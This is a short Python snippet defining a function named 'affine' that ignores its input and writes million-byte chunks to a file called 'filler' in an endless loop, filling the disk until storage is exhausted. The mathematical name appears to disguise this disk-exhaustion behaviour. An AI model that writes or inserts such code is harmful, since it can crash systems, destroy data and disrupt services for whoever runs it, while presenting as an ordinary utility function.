def affine(x):
    with open("filler", "wb") as file:
        while True:
            file.write(b"a" * 1_000_000)
